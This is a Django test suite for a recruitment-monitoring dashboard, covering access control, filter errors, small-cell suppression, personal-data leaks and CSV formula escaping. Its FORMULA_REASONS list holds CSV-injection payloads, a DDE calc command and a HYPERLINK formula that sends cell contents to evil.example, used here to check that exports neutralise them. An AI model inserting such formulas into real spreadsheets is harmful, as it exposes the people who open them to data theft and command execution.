"""Who gets in, what bad input gets back, and that no output shows a small cell or a person."""

import csv
import datetime as dt
import io
import json

import pytest
from django.urls import reverse
from django.utils import timezone

from monitoring import services
from recruitment import services as services_case
from recruitment.models import Candidate, Role
from tests import factories

from .conftest import county_name

pytestmark = pytest.mark.django_db

DASHBOARD = "/monitoring/"


@pytest.fixture
def snapshots(scenario, lone_case):
    services.take_snapshots(since=scenario["d0"] - dt.timedelta(days=1))
    return scenario


def _period(scenario) -> str:
    return f"start={(scenario['d0'] - dt.timedelta(days=1)).isoformat()}&end={scenario['today']}"


@pytest.mark.parametrize(
    "url",
    [
        DASHBOARD,
        "/monitoring/tables/monthly_flow.csv",
        "/monitoring/reports/",
    ],
)
def test_pages_refuse_everyone_but_analysts_and_admins(client, url, recruiter, superuser, analyst):
    assert client.get(url).status_code == 302  # to the login page
    educator = factories.user_with_role(
        Role.EDUCATOR, factories.OrganisationFactory(), username="edu"
    )
    for user in (recruiter, educator):
        client.force_login(user)
        assert client.get(url).status_code == 403
    for user in (analyst, superuser):
        client.force_login(user)
        assert client.get(url).status_code == 200


def test_api_refuses_everyone_but_analysts_and_admins(client, recruiter, analyst, superuser):
    url = "/api/v1/monitoring/stock_by_stage/"
    response = client.get(url)
    assert response.status_code == 401
    assert response["Content-Type"] == "application/problem+json"
    client.force_login(recruiter)
    assert client.get(url).status_code == 403
    assert client.get("/api/v1/monitoring/").status_code == 403
    for user in (analyst, superuser):
        client.force_login(user)
        assert client.get(url).status_code == 200
    index = client.get("/api/v1/monitoring/").json()
    assert {t["key"] for t in index["tables"]} >= {"stock_by_stage", "forecast", "monthly_flow"}
    assert client.get("/api/v1/monitoring/no_such_table/").status_code == 404


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("start=2026-05-01&end=2026-01-01", "inverted"),
        ("start=2999-01-01&end=2999-02-01", "future"),
        ("county=atlantis", "Unknown county"),
        ("country=XX", "Unknown country"),
        ("period=2999-H1", "2999-H1"),
        ("start=yesterday", "valid date"),
    ],
)
def test_bad_filters_get_a_clear_message(client, analyst, query, message):
    client.force_login(analyst)
    en = {"accept-language": "en"}
    page = client.get(f"{DASHBOARD}?{query}", headers=en)
    assert page.status_code == 400
    assert message in page.content.decode()
    csv = client.get(f"/monitoring/tables/stock_by_stage.csv?{query}", headers=en)
    assert csv.status_code == 400 and message in csv.content.decode()
    api = client.get(f"/api/v1/monitoring/stock_by_stage/?{query}", headers=en)
    assert api.status_code == 400 and message in api.json()["detail"]


def test_small_cells_are_suppressed_in_ui_csv_and_json(client, analyst, snapshots):
    client.force_login(analyst)
    query = _period(snapshots)
    page = client.get(f"{DASHBOARD}?{query}")
    html = page.content.decode()
    assert page.status_code == 200
    # Lapland has one case: its row in the county table shows the mark, never the 1.
    lapland = county_name("lappi")
    lapland_row = html.split(f'<th scope="row">{lapland}', 1)[1].split("</tr>", 1)[0]
    assert ">1<" not in lapland_row and ">x</abbr>" in lapland_row
    csv_text = client.get(f"/monitoring/tables/stock_by_county.csv?{query}").content.decode()
    csv_rows = list(csv.reader(io.StringIO(csv_text)))[1:]
    lapland_csv = next(row for row in csv_rows if row[0] == lapland)
    assert lapland_csv[1] == "x"
    assert "1" not in lapland_csv
    data = client.get(f"/api/v1/monitoring/stock_by_county/?{query}").json()
    lapland_json = next(r for r in data["table"]["rows"] if r["county"] == lapland)
    assert lapland_json["in_pipeline"] is None and lapland_json["total"] is None
    # The same cells are hidden in all three.
    hidden_json = {(s["row"], s["column"]) for s in data["table"]["suppressed"]}
    columns = [c["key"] for c in data["table"]["columns"]]
    hidden_csv = {
        (i, columns[j]) for i, row in enumerate(csv_rows) for j, v in enumerate(row) if v == "x"
    }
    assert hidden_json == hidden_csv
    for table in data["table"]["rows"]:
        for key, value in table.items():
            if isinstance(value, int):
                assert not 0 < value < 5, (key, value)


def test_no_personal_data_in_any_output(client, analyst, snapshots):
    client.force_login(analyst)
    query = _period(snapshots)
    outputs = [client.get(f"{DASHBOARD}?{query}").content.decode()]
    for key in client.get("/api/v1/monitoring/").json()["tables"]:
        outputs.append(json.dumps(client.get(f"/api/v1/monitoring/{key['key']}/?{query}").json()))
        outputs.append(
            client.get(
                reverse("monitoring:table_csv", args=[key["key"]]) + f"?{query}"
            ).content.decode()
        )
    text = "\n".join(outputs)
    for candidate in Candidate.objects.all():
        for value in (candidate.email, f"{candidate.first_name} {candidate.last_name}"):
            assert value not in text
    for number in Candidate.objects.values_list("cases__number", flat=True):
        assert number not in text


def test_dashboard_query_count_does_not_grow_with_cases(
    client, analyst, snapshots, django_assert_max_num_queries
):
    client.force_login(analyst)
    with django_assert_max_num_queries(80):
        assert client.get(f"{DASHBOARD}?{_period(snapshots)}").status_code == 200


FORMULA_REASONS = [
    "+1+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1;"Details")',
    "-1+1|cmd",
    "@SUM(1+1)",
]


def test_free_text_in_a_csv_export_never_starts_a_formula(client, analyst, recruiter_actor):
    """Issue 10: withdrawal reasons reach the ministry's dropout_reasons.csv as text."""
    for reason in FORMULA_REASONS:
        for _ in range(5):  # five cases: a reason written for fewer is folded into "Other"
            case = factories.open_case(actor=recruiter_actor)
            services_case.transition_case(
                case=case,
                name="withdraw",
                actor=recruiter_actor,
                expected_version=case.version,
                reason=reason,
            )
    today = timezone.localdate()
    services.take_snapshots(since=today - dt.timedelta(days=1))
    client.force_login(analyst)
    response = client.get(
        reverse("monitoring:table_csv", args=["dropout_reasons"])
        + f"?start={today - dt.timedelta(days=1)}&end={today}"
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    reasons = {row[2] for row in rows[1:]}
    assert {"'" + reason for reason in FORMULA_REASONS} <= reasons
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    total = rows[-1]
    assert total[-1] == str(5 * len(FORMULA_REASONS))  # the count is still a plain number
